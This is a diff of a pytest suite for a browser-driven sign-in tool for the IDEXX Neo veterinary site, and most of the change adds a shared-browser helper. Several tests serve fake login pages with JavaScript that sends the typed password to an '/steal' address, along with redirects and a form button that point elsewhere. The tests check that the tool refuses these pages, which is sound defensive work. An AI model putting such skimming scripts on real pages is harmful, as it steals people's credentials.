@@ -17,46 +17,45 @@ from idexx_desktop.neo.exposure import TypedSecret
 from idexx_desktop.neo.session import NeoSession
 from idexx_desktop.simulator.pages import FORMS
 from idexx_desktop.simulator.site import PracticeNeo
+from tests.neo.one_browser import Run
 from tests.neo.support import LOGIN, Canned, OddSite, children, form
 
 Make = Callable[..., NeoSession]
 SECRET = "p&ss wörd/7"
 
 
-def sign_in(session: NeoSession, login: NeoLogin = LOGIN) -> tuple[str, str]:
+def sign_in(run: Run, session: NeoSession, login: NeoLogin = LOGIN) -> tuple[str, str]:
     """Sign in once; the name that is shown, and the cookies."""
 
-    async def run() -> tuple[str, str]:
+    async def work() -> tuple[str, str]:
         async with session:
             return (await session.sign_in(login)).display_name, session.cookies()
 
-    return asyncio.run(run())
+    return run(work())
 
 
-def rejected(session: NeoSession, login: NeoLogin = LOGIN) -> Failure:
+def rejected(run: Run, session: NeoSession, login: NeoLogin = LOGIN) -> Failure:
     """Sign in once, in vain; why."""
     with pytest.raises(Failure) as caught:
-        sign_in(session, login)
+        sign_in(run, session, login)
     assert session.cookies() == ""
     assert login.password not in f"{caught.value!r}{caught.value.__context__!r}"
     return caught.value
 
 
-# a browser is started for each of these; whole syncs try many of them, too
+# whole syncs try many of these, too
 _ANOTHER_VARIANT = pytest.mark.long(item=39)
 
 
 @pytest.mark.parametrize(
     "variant", [next(iter(FORMS)), *(pytest.param(form, marks=_ANOTHER_VARIANT) for form in [*FORMS][1:])]
 )
-def test_every_known_form_is_filled_in(variant: str, session_to: Make) -> None:
-    before = children()
+def test_every_known_form_is_filled_in(variant: str, session_to: Make, in_one_browser: Run) -> None:
     with PracticeNeo(form=FORMS[variant]) as site:
-        name, cookies = sign_in(session_to(site.url))
+        name, cookies = sign_in(in_one_browser, session_to(site.url))
         assert (site.sign_ins, site.sign_in_attempts, site.refused_writes) == (1, 1, 0)
     assert name == "Oak Street Vets"
     assert LOGIN.password not in cookies
-    assert children() <= before
 
 
 @pytest.mark.parametrize(
@@ -77,52 +76,56 @@ def test_every_known_form_is_filled_in(variant: str, session_to: Make) -> None:
     ],
 )
 def test_each_way_to_be_turned_away_has_its_name_and_is_tried_once(
-    scenario: str, code: FailureCode, submits: int, session_to: Make
+    scenario: str, code: FailureCode, submits: int, session_to: Make, in_one_browser: Run
 ) -> None:
     with PracticeNeo(scenario) as site:
-        assert rejected(session_to(site.url)).code is code
+        assert rejected(in_one_browser, session_to(site.url)).code is code
         assert (site.sign_in_attempts, site.sign_ins) == (submits, 0)
 
 
-def test_a_wrong_password_is_told_and_not_repeated(session_to: Make) -> None:
+def test_a_wrong_password_is_told_and_not_repeated(session_to: Make, in_one_browser: Run) -> None:
     with PracticeNeo() as site:
-        assert rejected(session_to(site.url), NeoLogin("4242", LOGIN.username, "no")).code is (
-            FailureCode.WRONG_PASSWORD
-        )
+        assert rejected(
+            in_one_browser, session_to(site.url), NeoLogin("4242", LOGIN.username, "no")
+        ).code is (FailureCode.WRONG_PASSWORD)
         assert site.sign_in_attempts == 1
 
 
-def test_a_missing_company_id_is_asked_for_before_typing(session_to: Make) -> None:
+def test_a_missing_company_id_is_asked_for_before_typing(session_to: Make, in_one_browser: Run) -> None:
     with PracticeNeo() as site:
-        failure = rejected(session_to(site.url), NeoLogin(" ", LOGIN.username, LOGIN.password))
+        failure = rejected(
+            in_one_browser, session_to(site.url), NeoLogin(" ", LOGIN.username, LOGIN.password)
+        )
         assert failure.code is FailureCode.INVALID_INPUT
         assert site.sign_in_attempts == 0
 
 
-def test_pages_and_requests_are_counted(session_to: Make) -> None:
+def test_pages_and_requests_are_counted(session_to: Make, in_one_browser: Run) -> None:
     with PracticeNeo() as site:
         session = session_to(site.url)
-        sign_in(session)
+        sign_in(in_one_browser, session)
         assert session.requests == sum(site.counts.values())
 
 
-def odd(site: OddSite, session_to: Make) -> Failure:
+def odd(run: Run, site: OddSite, session_to: Make) -> Failure:
     """Sign in to an odd site, in vain."""
-    return rejected(session_to(site.url, timeout_seconds=3), NeoLogin("", "ana", SECRET))
+    return rejected(run, session_to(site.url, timeout_seconds=3), NeoLogin("", "ana", SECRET))
 
 
 def test_a_redirect_that_would_repeat_the_password_elsewhere_is_cut(
-    odd_site: OddSite, session_to: Make
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
 ) -> None:
     odd_site.answers["GET /login"] = form()
     odd_site.answers["POST /login"] = Canned(status=307, headers={"Location": f"{odd_site.elsewhere}/steal"})
-    failure = odd(odd_site, session_to)
+    failure = odd(in_one_browser, odd_site, session_to)
     assert failure.code is FailureCode.SIGN_IN_REDIRECTED
     assert "before typing" not in failure.title
     assert odd_site.asked_elsewhere() == []
 
 
-def test_a_script_cannot_carry_the_password_elsewhere(odd_site: OddSite, session_to: Make) -> None:
+def test_a_script_cannot_carry_the_password_elsewhere(
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
+) -> None:
     thief = (
         "document.forms[0].addEventListener('submit', () => {"
         f"const to = '{odd_site.elsewhere}/steal?' + encodeURIComponent(document.forms[0].password.value);"
@@ -135,7 +138,7 @@ def test_a_script_cannot_carry_the_password_elsewhere(odd_site: OddSite, session
     )
     odd_site.answers["GET /login"] = form(script=thief)
     odd_site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
-    assert odd(odd_site, session_to).code is FailureCode.WRONG_PASSWORD
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.WRONG_PASSWORD
     assert odd_site.asked_elsewhere() == []
 
 
@@ -159,10 +162,10 @@ def no_wait_for_a_form(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 def test_a_host_that_the_page_needs_is_named_and_nothing_is_asked_of_it(
-    odd_site: OddSite, session_to: Make, no_wait_for_a_form: None
+    odd_site: OddSite, session_to: Make, in_one_browser: Run, no_wait_for_a_form: None
 ) -> None:
     host = with_library(odd_site)
-    failure = odd(odd_site, session_to)
+    failure = odd(in_one_browser, odd_site, session_to)
     assert (failure.code, failure.hosts) == (FailureCode.PAGE_NEEDS_HOST, (host,))
     assert host in failure.title
     assert failure.words.exit_code == 5
@@ -171,16 +174,16 @@ def test_a_host_that_the_page_needs_is_named_and_nothing_is_asked_of_it(
 
 
 def test_a_host_that_a_person_allowed_builds_the_form_and_is_asked_nothing_after_typing(
-    odd_site: OddSite, session_to: Make
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
 ) -> None:
     host = with_library(odd_site)
     session = session_to(odd_site.url, hosts=(host,))
-    assert rejected(session, NeoLogin("", "ana", SECRET)).code is FailureCode.WRONG_PASSWORD
+    assert rejected(in_one_browser, session, NeoLogin("", "ana", SECRET)).code is FailureCode.WRONG_PASSWORD
     assert odd_site.asked_elsewhere() == ["GET /lib.js"]
 
 
 def test_data_and_frames_of_another_site_are_never_allowed(
-    odd_site: OddSite, session_to: Make, no_wait_for_a_form: None
+    odd_site: OddSite, session_to: Make, in_one_browser: Run, no_wait_for_a_form: None
 ) -> None:
     script = (
         f"const e = document.createElement('iframe'); e.src = '{odd_site.elsewhere}/frame'; document.body.append(e);"
@@ -189,21 +192,21 @@ def test_data_and_frames_of_another_site_are_never_allowed(
     )
     odd_site.answers["GET /login"] = Canned(f"<body><script>{script}</script></body>")
     allowed = (odd_site.elsewhere.partition("://")[2],)
-    failure = rejected(session_to(odd_site.url, hosts=allowed), NeoLogin("", "ana", SECRET))
+    failure = rejected(in_one_browser, session_to(odd_site.url, hosts=allowed), NeoLogin("", "ana", SECRET))
     assert (failure.code, failure.hosts) == (FailureCode.PAGE_NEEDS_HOST, ())
     assert "never allowed" in failure.advice
     assert odd_site.asked_elsewhere() == []
 
 
 def test_what_the_page_does_not_need_stops_nobody(
-    odd_site: OddSite, session_to: Make, no_wait_for_a_form: None
+    odd_site: OddSite, session_to: Make, in_one_browser: Run, no_wait_for_a_form: None
 ) -> None:
     counter = f'<script src="{odd_site.elsewhere}/count.js"></script>'
     odd_site.answers["GET /login"] = form(extra=counter)
     odd_site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
-    assert odd(odd_site, session_to).code is FailureCode.WRONG_PASSWORD
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.WRONG_PASSWORD
     odd_site.answers["GET /login"] = Canned(f"<body>{counter}<h1>Under maintenance</h1></body>")
-    assert odd(odd_site, session_to).code is FailureCode.MAINTENANCE
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.MAINTENANCE
     assert odd_site.asked_elsewhere() == []
 
 
@@ -212,7 +215,7 @@ def test_into_a_browser_that_goes_its_own_way_nothing_is_typed(
 ) -> None:
     monkeypatch.setattr(browser, "_NARROW", ("--no-proxy-server",))  # as a rule of the computer's owner would
     odd_site.answers["GET /login"] = form()
-    failure = odd(odd_site, session_to)
+    failure = odd(asyncio.run, odd_site, session_to)
     assert failure.code is FailureCode.NO_BROWSER
     assert "nothing was typed" in failure.title
     assert [what for what, _, _ in odd_site.asked] == ["GET /login"]
@@ -229,14 +232,14 @@ def test_into_a_browser_that_goes_its_own_way_nothing_is_typed(
     ids=["cookie", "history", "get", "action"],
 )
 def test_a_password_that_the_page_puts_elsewhere_ends_the_sign_in(
-    script: str, odd_site: OddSite, session_to: Make
+    script: str, odd_site: OddSite, session_to: Make, in_one_browser: Run
 ) -> None:
     watch = f"const f = document.forms[0]; f.addEventListener('change', () => {{ {script} }});"
     odd_site.answers["GET /login"] = form(script=watch)
     odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/home"})
     odd_site.answers["GET /home"] = Canned("<h1>Welcome</h1>")
     odd_site.answers["GET /users"] = Canned('{"name": "Oak"}')
-    failure = odd(odd_site, session_to)
+    failure = odd(in_one_browser, odd_site, session_to)
     assert failure.code is FailureCode.PAGE_CHANGED
     assert "tried to put the password" in failure.title
     hidden = TypedSecret(SECRET)
@@ -245,23 +248,27 @@ def test_a_password_that_the_page_puts_elsewhere_ends_the_sign_in(
 
 @pytest.mark.parametrize("password", ["login", pytest.param("no", marks=_ANOTHER_VARIANT)])
 def test_a_password_that_is_a_word_of_the_site_signs_in_all_the_same(
-    password: str, odd_site: OddSite, session_to: Make
+    password: str, odd_site: OddSite, session_to: Make, in_one_browser: Run
 ) -> None:
     odd_site.answers["GET /login"] = form()
     odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/home/notes"})
     odd_site.answers["GET /home/notes"] = Canned("<h1>Welcome</h1>")
     odd_site.answers["GET /users"] = Canned('{"name": "Oak"}')
-    assert sign_in(session_to(odd_site.url), NeoLogin("", "ana", password))[0] == "Oak"
+    assert sign_in(in_one_browser, session_to(odd_site.url), NeoLogin("", "ana", password))[0] == "Oak"
 
 
-def test_a_button_that_sends_the_form_elsewhere_is_noticed(odd_site: OddSite, session_to: Make) -> None:
+def test_a_button_that_sends_the_form_elsewhere_is_noticed(
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
+) -> None:
     odd_site.answers["GET /login"] = form(
         extra=f'<button type="submit" formaction="{odd_site.elsewhere}/steal">Sign in</button>'
     )
-    assert odd(odd_site, session_to).code is FailureCode.SIGN_IN_REDIRECTED
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.SIGN_IN_REDIRECTED
 
 
-def test_a_form_that_is_sent_by_script_shows_its_alert_in_place(odd_site: OddSite, session_to: Make) -> None:
+def test_a_form_that_is_sent_by_script_shows_its_alert_in_place(
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
+) -> None:
     odd_site.answers["GET /login"] = form(
         alert='<p role="alert">Maintenance on Sunday</p>',
         script="document.forms[0].addEventListener('submit', (e) => { e.preventDefault();"
@@ -269,32 +276,36 @@ def test_a_form_that_is_sent_by_script_shows_its_alert_in_place(odd_site: OddSit
         "document.querySelector('p').innerText = 'Account locked'; }); });",
     )
     odd_site.answers["POST /api"] = Canned("{}")
-    assert odd(odd_site, session_to).code is FailureCode.LOCKED_OUT
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.LOCKED_OUT
 
 
-def test_a_form_that_is_built_by_script_is_waited_for(odd_site: OddSite, session_to: Make) -> None:
+def test_a_form_that_is_built_by_script_is_waited_for(
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
+) -> None:
     build = f"setTimeout(() => {{ document.body.innerHTML = `{form().text}`; }}, 300)"
     odd_site.answers["GET /login"] = Canned(f"<body><script>{build}</script></body>")
     odd_site.answers["POST /login"] = form(alert='<p class="alert-danger">Computer says no</p>')
-    assert odd(odd_site, session_to).code is FailureCode.SIGN_IN_REJECTED
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.SIGN_IN_REJECTED
 
 
 def test_a_page_behind_the_form_counts_only_if_its_cookies_open_anything(
-    odd_site: OddSite, session_to: Make
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
 ) -> None:
     odd_site.answers["GET /login"] = form()
     odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/blocked"})
     odd_site.answers["GET /blocked"] = Canned("<h1>Your IP address is not on the list.</h1>")
     odd_site.answers["GET /users"] = Canned(status=401)
-    assert odd(odd_site, session_to).code is FailureCode.NOT_FROM_HERE
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.NOT_FROM_HERE
 
 
-def test_a_code_page_outside_of_the_sign_in_page_is_recognised(odd_site: OddSite, session_to: Make) -> None:
+def test_a_code_page_outside_of_the_sign_in_page_is_recognised(
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
+) -> None:
     odd_site.answers["GET /login"] = form()
     odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/two-factor"})
     odd_site.answers["GET /two-factor"] = Canned('<form><input name="otp"></form>')
     odd_site.answers["GET /users"] = Canned(status=302, headers={"Location": "/two-factor"})
-    assert odd(odd_site, session_to).code is FailureCode.CODE_ASKED
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.CODE_ASKED
 
 
 @pytest.mark.parametrize(
@@ -307,18 +318,20 @@ def test_a_code_page_outside_of_the_sign_in_page_is_recognised(odd_site: OddSite
     ],
 )
 def test_what_the_submit_is_answered_with_is_named(
-    answer: Canned, code: FailureCode, odd_site: OddSite, session_to: Make
+    answer: Canned, code: FailureCode, odd_site: OddSite, session_to: Make, in_one_browser: Run
 ) -> None:
     odd_site.answers["GET /login"] = form()
     odd_site.answers["POST /login"] = answer
-    assert odd(odd_site, session_to).code is code
+    assert odd(in_one_browser, odd_site, session_to).code is code
 
 
-def test_a_page_that_never_comes_to_rest_ends_in_time(odd_site: OddSite, session_to: Make) -> None:
+def test_a_page_that_never_comes_to_rest_ends_in_time(
+    odd_site: OddSite, session_to: Make, in_one_browser: Run
+) -> None:
     odd_site.answers["GET /login"] = form(
         script="document.forms[0].addEventListener('submit', () => { for (;;) {} });"
     )
-    assert odd(odd_site, session_to).code is FailureCode.TOO_SLOW
+    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.TOO_SLOW
 
 
 def test_the_chosen_browser_is_tried_first_then_those_that_most_have() -> None:
@@ -327,12 +340,16 @@ def test_the_chosen_browser_is_tried_first_then_those_that_most_have() -> None:
     assert list(dict.fromkeys(one.name for one in candidates(None, "/cache/chrome"))) == names[1:]
 
 
-def test_a_sign_in_leaves_no_profile_behind(session_to: Make, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_sign_in_leaves_no_profile_and_no_process_behind(
+    session_to: Make, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    before = children()
     # a short folder: the browser makes a socket in its profile, whose path may have some hundred characters at most
     with tempfile.TemporaryDirectory(prefix="neo-") as folder, PracticeNeo() as site:
         monkeypatch.setenv("TMPDIR", folder)
-        sign_in(session_to(site.url))
+        sign_in(asyncio.run, session_to(site.url))
         assert list(Path(folder).iterdir()) == []
+    assert children() <= before
 
 
 def test_no_browser_is_one_message_that_lists_what_was_tried(
@@ -344,7 +361,7 @@ def test_no_browser_is_one_message_that_lists_what_was_tried(
     found = [Candidate("broken one", str(broken)), Candidate("gone", str(tmp_path / "gone"))]
     monkeypatch.setattr(browser, "candidates", lambda *_: found)
     with PracticeNeo() as site:
-        failure = rejected(session_to(site.url))
+        failure = rejected(asyncio.run, session_to(site.url))
         assert site.counts == {}
     assert failure.code is FailureCode.NO_BROWSER
     assert failure.detail == "broken one: did not start; gone: not there"
